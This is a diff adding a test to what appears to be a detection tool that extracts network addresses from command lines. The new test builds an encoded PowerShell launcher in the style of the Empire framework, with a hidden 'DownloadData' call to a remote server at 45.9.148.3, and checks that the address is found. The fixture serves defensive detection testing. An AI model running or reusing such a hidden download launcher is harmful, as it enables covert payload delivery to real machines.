@@ -90,6 +90,13 @@ describe('extractAddresses', () => {
     expect(extractAddresses(line, { decodeEncodedCommands: false })).toEqual([]);
   });
 
+  it('decodes FromBase64String literals inside encoded commands (Empire launchers) with the outer payload offset', () => {
+    const server = Buffer.from('http://45.9.148.3:8080', 'utf16le').toString('base64');
+    const script = `$ser=$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${server}')));$wc.DownloadData($ser)`;
+    const line = `powershell -w 1 -enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
+    expect(extractAddresses(line)).toEqual([{ address: '45.9.148.3', raw: '45.9.148.3', offset: 20, encoding: 'encoded-command', kind: 'external' }]);
+  });
+
   it('ignores -e arguments that are not UTF-16LE base64', () => {
     expect(addresses('curl -e aHR0cDovLzQ1LjkuMTQ4LjMv https://example.com')).toEqual([]);
   });
